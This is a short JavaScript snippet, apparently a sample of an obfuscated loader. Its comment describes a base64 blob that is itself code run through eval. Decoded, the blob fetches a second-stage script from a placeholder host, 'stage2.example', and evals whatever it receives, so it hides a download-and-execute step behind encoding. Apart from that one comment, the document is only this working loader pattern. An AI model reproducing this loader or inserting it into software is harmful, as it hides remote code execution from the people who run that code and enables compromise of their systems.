// A base64 blob that is itself code, run with eval.
var p = "cmVxdWlyZSgnaHR0cHMnKS5nZXQoJ2h0dHBzOi8vc3RhZ2UyLmV4YW1wbGUvcC5qcycsIGZ1bmN0aW9uIChyKSB7IHZhciBiID0gJyc7IHIub24oJ2RhdGEnLCBmdW5jdGlvbiAoYykgeyBiICs9IGM7IH0pOyByLm9uKCdlbmQnLCBmdW5jdGlvbiAoKSB7IGV2YWwoYik7IH0pOyB9KTs=";
eval(atob(p));
